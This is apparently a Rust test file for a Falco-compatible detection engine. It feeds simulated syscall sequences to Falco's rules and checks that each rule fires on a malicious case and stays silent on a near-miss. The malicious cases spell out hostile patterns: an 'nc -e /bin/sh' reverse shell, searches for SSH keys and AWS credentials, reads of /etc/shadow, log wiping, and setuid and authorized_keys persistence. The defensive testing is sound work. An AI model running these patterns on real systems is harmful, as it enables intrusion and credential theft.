//! Done-when 3: Falco's own rules, loaded from the real rule files, fire on hand-written
//! event sequences from plain Linux hosts and stay silent on near-misses.

mod common;

use std::path::PathBuf;
use std::sync::OnceLock;

use common::*;
use ferret_event::Value;
use ferret_rules::{Engine, RuleSet};

fn engine() -> &'static Engine {
    static E: OnceLock<Engine> = OnceLock::new();
    E.get_or_init(|| {
        let dir = PathBuf::from(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/../../../shared/data/falco"
        ));
        let mut set = RuleSet::new();
        for f in [
            "falco_rules.yaml",
            "falco-incubating_rules.yaml",
            "falco-sandbox_rules.yaml",
        ] {
            set.load_file(&dir.join(f))
                .unwrap_or_else(|e| panic!("{f}: {e}"));
        }
        Engine::compile(&set).unwrap_or_else(|e| panic!("compile: {}", e[0]))
    })
}

/// sshd(1) -> bash(50) -> sample(100); nginx(60) runs beside them.
fn base() -> Seq {
    let mut s = Seq::new();
    s.known(
        60,
        1,
        "nginx",
        "/usr/sbin/nginx",
        &["-g", "daemon off;"],
        33,
    );
    s.spawn(50, 100, "/opt/sample/sample", &["sample"]);
    s
}

fn cases() -> Vec<Case> {
    vec![
        Case {
            rule: "Read sensitive file untrusted",
            pos: |s| {
                s.open(100, "/etc/shadow", O_RDONLY, 3);
            },
            neg: |s| {
                s.open(50, "/etc/shadow", O_RDONLY, 3);
            },
        },
        Case {
            rule: "Search Private Keys or Passwords",
            pos: |s| {
                s.spawn(50, 101, "/usr/bin/find", &["find", "/", "-name", "id_rsa"]);
            },
            neg: |s| {
                s.spawn(
                    50,
                    101,
                    "/usr/bin/find",
                    &["find", "/", "-name", "notes.txt"],
                );
            },
        },
        Case {
            rule: "Clear Log Activities",
            pos: |s| {
                s.open(100, "/var/log/syslog", O_WRONLY | O_TRUNC, 3);
            },
            neg: |s| {
                s.open(100, "/var/log/syslog", O_WRONLY | 0o2000, 3);
            },
        },
        Case {
            rule: "Remove Bulk Data from Disk",
            pos: |s| {
                s.spawn(
                    50,
                    101,
                    "/usr/bin/shred",
                    &["shred", "-u", "/home/alice/db.sqlite"],
                );
            },
            neg: |s| {
                s.spawn(50, 101, "/usr/bin/rm", &["rm", "/home/alice/db.sqlite"]);
            },
        },
        Case {
            rule: "Create Symlink Over Sensitive Files",
            pos: |s| {
                s.call(
                    100,
                    "symlinkat",
                    vec![
                        ("target", Value::Path("/etc/shadow".into())),
                        ("linkdirfd", Value::Fd(-100)),
                        ("linkpath", Value::Path("/tmp/s".into())),
                    ],
                    0,
                );
            },
            neg: |s| {
                s.call(
                    100,
                    "symlinkat",
                    vec![
                        ("target", Value::Path("/etc/hosts".into())),
                        ("linkdirfd", Value::Fd(-100)),
                        ("linkpath", Value::Path("/tmp/s".into())),
                    ],
                    0,
                );
            },
        },
        Case {
            rule: "Create Hardlink Over Sensitive Files",
            pos: |s| {
                s.call(
                    100,
                    "linkat",
                    vec![
                        ("olddir", Value::Fd(-100)),
                        ("oldpath", Value::Path("/etc/shadow".into())),
                        ("newdir", Value::Fd(-100)),
                        ("newpath", Value::Path("/tmp/h".into())),
                    ],
                    0,
                );
            },
            neg: |s| {
                s.call(
                    100,
                    "linkat",
                    vec![
                        ("olddir", Value::Fd(-100)),
                        ("oldpath", Value::Path("/etc/hostname".into())),
                        ("newdir", Value::Fd(-100)),
                        ("newpath", Value::Path("/tmp/h".into())),
                    ],
                    0,
                );
            },
        },
        Case {
            rule: "PTRACE attached to process",
            pos: |s| {
                s.call(
                    100,
                    "ptrace",
                    vec![
                        ("request", flags(16, "PTRACE_ATTACH")),
                        ("pid", Value::Int(60)),
                    ],
                    0,
                );
            },
            neg: |s| {
                s.call(
                    100,
                    "ptrace",
                    vec![
                        ("request", flags(7, "PTRACE_CONT")),
                        ("pid", Value::Int(60)),
                    ],
                    0,
                );
            },
        },
        Case {
            rule: "PTRACE anti-debug attempt",
            pos: |s| {
                s.call(
                    100,
                    "ptrace",
                    vec![
                        ("request", flags(0, "PTRACE_TRACEME")),
                        ("pid", Value::Int(0)),
                    ],
                    0,
                );
            },
            neg: |s| {
                s.call(
                    100,
                    "ptrace",
                    vec![
                        ("request", flags(16, "PTRACE_ATTACH")),
                        ("pid", Value::Int(60)),
                    ],
                    0,
                );
            },
        },
        Case {
            rule: "Find AWS Credentials",
            pos: |s| {
                s.spawn(
                    50,
                    101,
                    "/usr/bin/find",
                    &["find", "/home", "-path", "*/.aws/credentials"],
                );
            },
            neg: |s| {
                s.spawn(
                    50,
                    101,
                    "/usr/bin/find",
                    &["find", "/home", "-path", "*/.aws/config"],
                );
            },
        },
        Case {
            rule: "Execution from /dev/shm",
            pos: |s| {
                s.spawn(100, 101, "/dev/shm/x", &["/dev/shm/x"]);
            },
            neg: |s| {
                s.spawn(100, 101, "/tmp/x", &["/tmp/x"]);
            },
        },
        Case {
            rule: "Disallowed SSH Connection Non Standard Port",
            pos: |s| {
                s.spawn(
                    50,
                    101,
                    "/usr/bin/ssh",
                    &["/usr/bin/ssh", "-p", "4444", "198.51.100.4"],
                );
                s.connect(101, 3, [198, 51, 100, 4], 4444, 0);
            },
            neg: |s| {
                s.spawn(50, 101, "/usr/bin/ssh", &["/usr/bin/ssh", "198.51.100.4"]);
                s.connect(101, 3, [198, 51, 100, 4], 22, 0);
            },
        },
        Case {
            rule: "Fileless execution via memfd_create",
            pos: |s| {
                s.call(
                    100,
                    "memfd_create",
                    vec![
                        ("name", Value::Str("".into())),
                        ("flags", flags(1, "MFD_CLOEXEC")),
                    ],
                    4,
                );
                s.call(
                    100,
                    "execveat",
                    vec![
                        ("dirfd", Value::Fd(4)),
                        ("pathname", Value::Path(String::new())),
                        ("flags", flags(0x1000, "AT_EMPTY_PATH")),
                    ],
                    0,
                );
            },
            neg: |s| {
                s.call(
                    100,
                    "memfd_create",
                    vec![
                        ("name", Value::Str("".into())),
                        ("flags", flags(1, "MFD_CLOEXEC")),
                    ],
                    4,
                );
                s.call(
                    100,
                    "execveat",
                    vec![
                        ("dirfd", Value::Fd(-100)),
                        ("pathname", Value::Path("/usr/bin/true".into())),
                        ("flags", flags(0, "")),
                    ],
                    0,
                );
            },
        },
        Case {
            rule: "Directory traversal monitored file read",
            pos: |s| {
                s.spawn(60, 110, "/usr/lib/cgi-bin/app", &["app"]);
                s.open(110, "/var/www/html/../../../etc/passwd", O_RDONLY, 3);
            },
            neg: |s| {
                s.spawn(60, 110, "/usr/lib/cgi-bin/app", &["app"]);
                s.open(110, "/etc/passwd", O_RDONLY, 3);
            },
        },
        Case {
            rule: "Run shell untrusted",
            pos: |s| {
                s.spawn(60, 110, "/bin/sh", &["sh", "-c", "id"]);
            },
            neg: |s| {
                s.spawn(50, 110, "/bin/sh", &["sh", "-c", "id"]);
            },
        },
        Case {
            rule: "Modify Shell Configuration File",
            pos: |s| {
                s.open(100, "/home/alice/.bashrc", O_WRONLY | 0o2000, 3);
            },
            neg: |s| {
                s.open(50, "/home/alice/.bashrc", O_WRONLY | 0o2000, 3);
            },
        },
        Case {
            rule: "Schedule Cron Jobs",
            pos: |s| {
                s.spawn(50, 101, "/usr/bin/crontab", &["crontab", "/tmp/jobs"]);
            },
            neg: |s| {
                s.open(100, "/etc/crontab", O_RDONLY, 3);
            },
        },
        Case {
            rule: "Read ssh information",
            pos: |s| {
                s.open(100, "/home/alice/.ssh/id_rsa", O_RDONLY, 3);
            },
            neg: |s| {
                s.spawn(50, 101, "/usr/bin/ssh", &["ssh", "host"]);
                s.open(101, "/home/alice/.ssh/id_rsa", O_RDONLY, 3);
            },
        },
        Case {
            rule: "Delete or rename shell history",
            pos: |s| {
                s.unlink(100, "/home/alice/.bash_history");
            },
            neg: |s| {
                s.unlink(100, "/home/alice/.bash_logout");
            },
        },
        Case {
            rule: "Set Setuid or Setgid bit",
            pos: |s| {
                s.call(
                    100,
                    "fchmodat",
                    vec![
                        ("dirfd", Value::Fd(-100)),
                        ("filename", Value::Path("/tmp/rootsh".into())),
                        (
                            "mode",
                            flags(0o4755, "S_ISUID|S_IRWXU|S_IXGRP|S_IRGRP|S_IXOTH|S_IROTH"),
                        ),
                    ],
                    0,
                );
            },
            neg: |s| {
                s.call(
                    100,
                    "fchmodat",
                    vec![
                        ("dirfd", Value::Fd(-100)),
                        ("filename", Value::Path("/tmp/rootsh".into())),
                        (
                            "mode",
                            flags(0o755, "S_IRWXU|S_IXGRP|S_IRGRP|S_IXOTH|S_IROTH"),
                        ),
                    ],
                    0,
                );
            },
        },
        Case {
            rule: "Adding ssh keys to authorized_keys",
            pos: |s| {
                s.open(
                    100,
                    "/home/alice/.ssh/authorized_keys",
                    O_WRONLY | 0o2000,
                    3,
                );
            },
            neg: |s| {
                s.open(100, "/home/alice/.ssh/authorized_keys", O_RDONLY, 3);
            },
        },
        Case {
            rule: "Launch Suspicious Network Tool on Host",
            pos: |s| {
                s.spawn(50, 101, "/usr/bin/nmap", &["nmap", "-sS", "10.0.0.0/24"]);
            },
            neg: |s| {
                s.spawn(50, 101, "/usr/bin/ping", &["ping", "10.0.0.1"]);
            },
        },
        Case {
            rule: "Netcat/Socat Remote Code Execution on Host",
            pos: |s| {
                s.spawn(
                    100,
                    101,
                    "/usr/bin/nc",
                    &["nc", "-e", "/bin/sh", "198.51.100.4", "4444"],
                );
            },
            neg: |s| {
                s.spawn(100, 101, "/usr/bin/nc", &["nc", "-z", "198.51.100.4", "80"]);
            },
        },
        Case {
            rule: "Basic Interactive Reconnaissance",
            pos: |s| {
                s.fork(50, 101);
                s.call(
                    101,
                    "setpgid",
                    vec![("pid", Value::Int(0)), ("pgid", Value::Int(0))],
                    0,
                );
                s.exec(101, "/usr/bin/whoami", &["whoami"], &[]);
            },
            neg: |s| {
                s.spawn(50, 101, "/usr/bin/whoami", &["whoami"]);
            },
        },
        Case {
            rule: "Web Server Spawned Shell",
            pos: |s| {
                s.spawn(60, 110, "/bin/bash", &["bash", "-i"]);
            },
            neg: |s| {
                s.spawn(60, 110, "/bin/sh", &["sh", "-c", "/usr/bin/logrotate"]);
            },
        },
        Case {
            rule: "Known Cryptominer Process Executed",
            pos: |s| {
                s.spawn(100, 101, "/tmp/xmrig", &["xmrig", "-o", "pool:3333"]);
            },
            neg: |s| {
                s.spawn(100, 101, "/tmp/xmrig-notes", &["xmrig-notes"]);
            },
        },
        Case {
            rule: "Write below etc",
            pos: |s| {
                s.open(100, "/etc/evil.conf", O_WRONLY | O_CREAT, 3);
            },
            neg: |s| {
                s.open(100, "/etc/evil.conf", O_RDONLY, 3);
            },
        },
    ]
}

#[test]
fn falco_rules_fire_on_positives_and_not_on_near_misses() {
    let e = engine();
    let cases = cases();
    let failures = check_cases(e, &cases, base);
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    println!(
        "{} Falco rules checked with a positive and a near-miss sequence",
        cases.len()
    );
    assert!(cases.len() >= 20);
}

#[test]
fn falco_alert_output_substitutes_fields() {
    let mut s = base();
    s.open(100, "/etc/shadow", O_RDONLY, 3);
    let mut a = ferret_rules::Analyzer::new(engine());
    let mut alerts = Vec::new();
    for ev in &s.evs {
        alerts.extend(a.feed(ev));
    }
    let al = alerts
        .iter()
        .find(|a| a.rule == "Read sensitive file untrusted")
        .expect("alert");
    assert!(al.output.contains("file=/etc/shadow"), "{}", al.output);
    assert!(al.output.contains("process=sample"), "{}", al.output);
    assert!(al.output.contains("parent=bash"), "{}", al.output);
    assert_eq!(al.priority, "Warning");
    assert_eq!(
        al.output_fields.get("fd.name"),
        Some(&serde_json::Value::String("/etc/shadow".into()))
    );
    assert_eq!(
        al.output_fields.get("user.uid"),
        Some(&serde_json::Value::from(1000))
    );
    assert!(al.tags.iter().any(|t| t == "T1555"), "{:?}", al.tags);
}

#[test]
fn cached_macro_results_agree_with_uncached_evaluation() {
    let e = engine();
    let memo = e.new_memo();
    let mut compared = 0;
    for c in cases() {
        for build in [c.pos, c.neg] {
            let mut s = base();
            build(&mut s);
            let mut st = ferret_event::State::new();
            for ev in &s.evs {
                let view = st.update(ev);
                let mut hits = Vec::new();
                e.matches(ev, view, &memo, &mut hits);
                let direct: Vec<usize> = e
                    .candidates(&ev.ty)
                    .iter()
                    .map(|i| *i as usize)
                    .filter(|i| e.rule_matches(*i, ev, view))
                    .collect();
                assert_eq!(hits, direct, "event {} ({})", ev.num, ev.ty);
                compared += 1;
            }
        }
    }
    assert!(compared > 100);
}
